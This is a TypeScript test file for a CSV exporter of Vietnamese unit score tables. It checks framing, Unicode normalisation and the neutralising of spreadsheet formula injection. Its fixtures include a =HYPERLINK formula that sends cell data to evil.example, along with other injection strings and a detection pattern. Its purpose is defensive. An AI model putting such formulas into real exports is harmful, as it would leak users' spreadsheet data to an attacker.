import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderScoreCsv } from '../../shared/views/score-csv';
import { AT_SUM, DEPUTY, HEAD, HYPERLINK, fixture, row } from '../fixtures/score-view';
import { cleanText } from '../../shared/views/reminder-emails';

const DANGEROUS_START = /^[=+\-@\t\r]/;

/**
 * A strict RFC 4180 parser: records end with CRLF, fields are separated by commas, a quoted field doubles its
 * quotes; anything else (a bare CR or LF, a quote inside an unquoted field, text after a closing quote) throws.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  const atRecordEnd = () => text.startsWith('\r\n', i);
  while (i < text.length) {
    let value = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
            continue;
          }
          i += 1;
          break;
        }
        value += text[i];
        i += 1;
      }
    } else {
      while (i < text.length && text[i] !== ',' && !atRecordEnd()) {
        if (text[i] === '"' || text[i] === '\r' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
        value += text[i];
        i += 1;
      }
    }
    record.push(value);
    if (text[i] === ',') {
      i += 1;
      if (i === text.length) record.push('');
    } else if (atRecordEnd()) {
      records.push(record);
      record = [];
      i += 2;
    } else if (i < text.length) {
      throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
    }
  }
  if (record.length > 0) records.push(record);
  return records;
}


/** The bytes are a BOM, then CRLF-terminated records with no other CR or LF anywhere. */
function expectCsvFraming(csv: string): string {
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  expect(csv.endsWith('\r\n')).toBe(true);
  expect(/[\r\n]/.test(csv.replaceAll('\r\n', ''))).toBe(false);
  return csv.slice(1);
}

describe('renderScoreCsv', () => {
  it('writes a BOM, CRLF records, a header and one row per unit, hostile text neutralised and numbers intact', () => {
    const csv = renderScoreCsv(fixture());
    const records = parseCsv(expectCsvFraming(csv));
    expect(records).toEqual([
      [
        'STT', 'Đơn vị',
        'Nhóm 1 (40 điểm) - Tự chấm', 'Nhóm 1 (40 điểm) - Thẩm định',
        'Nhóm 2 (52,5 điểm) - Tự chấm', 'Nhóm 2 (52,5 điểm) - Thẩm định',
        'Nhóm 3 (7,5 điểm) - Tự chấm', 'Nhóm 3 (7,5 điểm) - Thẩm định',
        'Điểm thưởng (tối đa 5)', 'Điểm trừ', 'Lý do trừ điểm', 'Tổng điểm', 'Xếp hạng', 'Đồng hạng', 'Xếp loại',
        'Đề nghị khen thưởng', 'Ghi chú',
      ],
      ['1', HEAD, '39', '38.5', '52', '51', '7.5', '7', '3', '0', '', '99.5', '1', '', 'Xuất sắc', 'Cờ thi đua', 'Dẫn đầu Cụm'],
      [
        '2', `'${HYPERLINK}`, '38', '37', '50', '49.5', '7', '7', '2', '2', 'Báo cáo sơ kết 06 tháng nộp muộn 3 ngày (2 điểm)',
        '93.5', '2', 'đồng hạng', 'Xuất sắc', 'Bằng khen', '',
      ],
      ['3', "'+1", '36', '36', '50', '50', '6.5', '6.5', '1', '0', '', '93.5', '2', 'đồng hạng', 'Xuất sắc', 'Bằng khen', ''],
      [
        '4', `'${AT_SUM}`, '35', '33', '48', '45', '6', '5', '0', '5', 'Báo cáo tổng kết năm học không nộp (5 điểm)',
        '78', '4', '', 'Tốt', '', "'- Thiếu báo cáo tổng kết",
      ],
      ['5', "'-2", '30', '', '40', '', '5', '', '0', '0', '', '75', '5', '', 'Khá', '', 'Chưa thẩm định'],
      [
        '6', DEPUTY, '', '', '', '', '', '', '0', '0', '', '0', '', '', '', '',
        'Không đăng ký thi đua, không xét khen thưởng ("ngoài danh sách")',
      ],
    ]);

    for (const cell of records.flat()) expect(DANGEROUS_START.test(cell), cell).toBe(false);
    // Diacritics come out composed (NFC), the decomposed input included.
    expect(csv.normalize('NFC')).toBe(csv);
    expect(csv).toContain(DEPUTY);
    expect(csv).not.toContain(DEPUTY.normalize('NFD'));

    // The raw text: quoted only where RFC 4180 needs it, quotes doubled, the prefix inside the quotes.
    const lines = csv.slice(1).split('\r\n');
    expect(lines[2]).toBe(
      `2,"'=HYPERLINK(""http://evil.example/?q=""&A1,""Bấm vào đây"")",38,37,50,49.5,7,7,2,2,` +
        'Báo cáo sơ kết 06 tháng nộp muộn 3 ngày (2 điểm),93.5,2,đồng hạng,Xuất sắc,Bằng khen,',
    );
    expect(lines[3]).toBe("3,'+1,36,36,50,50,6.5,6.5,1,0,,93.5,2,đồng hạng,Xuất sắc,Bằng khen,");
    expect(lines[5]).toBe("5,'-2,30,,40,,5,,0,0,,75,5,,Khá,,Chưa thẩm định");
    expect(lines[0]).toContain(',"Nhóm 2 (52,5 điểm) - Tự chấm",');
    expect(lines[7]).toBe('');
    expect(lines).toHaveLength(8);
  });

  it('neutralises a formula hidden behind spaces, tabs or line breaks, since those are cleaned away first', () => {
    const names = ['\t=1+1', ' =1+1', '\r=cmd', '\n+SUM(A1)', '\u00A0@x', '  -1', '\u202E=1+1', "'=already quoted"];
    const csv = renderScoreCsv(fixture({ rows: names.map((unitName) => row({ unitName })) }));
    const names2 = parseCsv(expectCsvFraming(csv))
      .slice(1)
      .map((r) => r[1]);
    expect(names2).toEqual(["'=1+1", "'=1+1", "'=cmd", "'+SUM(A1)", "'@x", "'-1", "'=1+1", "'=already quoted"]);
  });

  it('writes an empty table as the header alone', () => {
    const csv = renderScoreCsv(fixture({ rows: [] }));
    expect(parseCsv(expectCsvFraming(csv))).toHaveLength(1);
  });

  it('refuses negative points: numbers are never written with a leading minus', () => {
    const [first] = fixture().rows;
    expect(() => renderScoreCsv(fixture({ rows: [{ ...first!, bonus: -1 }] }))).toThrow();
    expect(() => renderScoreCsv(fixture({ rows: [{ ...first!, deductions: { total: -3, sources: '' } }] }))).toThrow();
    expect(() => renderScoreCsv(fixture({ rows: [{ ...first!, total: Number.NaN }] }))).toThrow();
  });

  it('for any text, no cell starts with a formula character and parsing gives back the neutralised text', () => {
    const anyText = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 24 }),
      fc.string({ unit: 'grapheme', maxLength: 24 }),
      fc
        .tuple(
          fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' =', '\t@', '\u00A0+', '"=', ',-', '\r\n=', '\u2028@'),
          fc.string({ unit: 'grapheme', maxLength: 16 }),
        )
        .map(([start, rest]) => start + rest),
    );
    const required = anyText.filter((s) => s.normalize('NFC').trim() !== '');
    const points = fc.integer({ min: 0, max: 4000 }).map((n) => n / 4);
    const unit = fc.record({
      unitName: required,
      sources: anyText,
      bandLabel: anyText,
      awardLabel: anyText,
      note: anyText,
      self: fc.option(points, { nil: null }),
      verified: fc.option(points, { nil: null }),
      bonus: points,
      deduction: points,
      total: points,
      rank: fc.option(fc.record({ position: fc.integer({ min: 1, max: 50 }), tied: fc.boolean() }), { nil: null }),
    });
    /** What the CSV should hold for a text cell: the schema's NFC and trim, then one clean line, then the prefix. */
    const expected = (s: string): string => {
      const cleaned = cleanText(s.normalize('NFC').trim());
      return DANGEROUS_START.test(cleaned) ? `'${cleaned}` : cleaned;
    };

    fc.assert(
      fc.property(required, fc.array(unit, { maxLength: 6 }), (groupTitle, units) => {
        const view = fixture({
          groups: [{ id: 'nhom', shortTitle: groupTitle, maximum: 100 }],
          rows: units.map((u) =>
            row({
              unitName: u.unitName,
              points: { nhom: { self: u.self, verified: u.verified } },
              bonus: u.bonus,
              deductions: { total: u.deduction, sources: u.sources },
              total: u.total,
              rank: u.rank,
              bandLabel: u.bandLabel,
              awardLabel: u.awardLabel,
              note: u.note,
            }),
          ),
        });
        const records = parseCsv(expectCsvFraming(renderScoreCsv(view)));
        expect(records).toHaveLength(units.length + 1);
        for (const record of records) {
          expect(record).toHaveLength(13);
          for (const cell of record) expect(DANGEROUS_START.test(cell)).toBe(false);
        }
        expect(records[0]!.slice(2, 4)).toEqual([
          expected(`${groupTitle.normalize('NFC').trim()} (100 điểm) - Tự chấm`),
          expected(`${groupTitle.normalize('NFC').trim()} (100 điểm) - Thẩm định`),
        ]);
        units.forEach((u, i) => {
          const num = (n: number | null) => (n === null ? '' : String(n));
          expect(records[i + 1]).toEqual([
            String(i + 1),
            expected(u.unitName),
            num(u.self),
            num(u.verified),
            String(u.bonus),
            String(u.deduction),
            expected(u.sources),
            String(u.total),
            num(u.rank?.position ?? null),
            u.rank?.tied ? 'đồng hạng' : '',
            expected(u.bandLabel),
            expected(u.awardLabel),
            expected(u.note),
          ]);
        });
      }),
      { numRuns: 300 },
    );
  });
});
